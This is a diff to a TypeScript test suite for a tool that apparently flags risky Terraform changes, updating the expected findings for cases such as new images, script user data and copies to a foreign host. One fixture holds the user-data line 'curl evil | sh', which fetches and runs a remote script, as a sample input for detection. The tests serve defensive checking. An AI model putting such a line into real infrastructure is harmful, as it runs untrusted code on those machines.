@@ -294,7 +294,7 @@ describe("the findings of a change", () => {
     ],
     [
       "a new machine with an image of its own",
-      ["image"],
+      ["image", "unknown"],
       (r) =>
         Object.assign(r.aws_instance as object, {
           more: { ...at(r, "aws_instance.worker-0"), ami: "ami-0123456789abcdef0" },
@@ -302,7 +302,7 @@ describe("the findings of a change", () => {
     ],
     [
       "a new machine whose user data is a script",
-      ["user-data"],
+      ["user-data", "unknown"],
       (r) =>
         Object.assign(r.aws_instance as object, {
           more: { ...at(r, "aws_instance.worker-0"), user_data: "#!/bin/sh\ncurl evil | sh" },
@@ -315,7 +315,7 @@ describe("the findings of a change", () => {
     ],
     [
       "a copy to a foreign host",
-      ["foreign-host"],
+      ["commands", "foreign-host"],
       (r) => Object.assign(at(r, "null_resource.pems-worker-0").connection, { host: "198.51.100.7" }),
     ],
     [
@@ -478,7 +478,7 @@ describe("the findings of a change", () => {
     ],
     [
       "a machine that Terraform forgets",
-      ["replace-load-balancer", "forget"],
+      ["listener", "replace-load-balancer", "forget"],
       (r, d) => {
         delete r.aws_lb;
         delete r.aws_lb_listener;
@@ -645,7 +645,10 @@ describe("a removed block", () => {
           Object.assign(d, { removed });
         }),
       ),
-    ).map(({ kind }) => kind);
+    )
+      .map(({ kind }) => kind)
+      // The end of a route is a finding too.
+      .filter((kind) => kind !== "route");
 
   test.each([true, false])("that only destroys or forgets has no finding of its own: destroy %s", (destroy) => {
     const kinds = destroy ? [] : ["forget"];
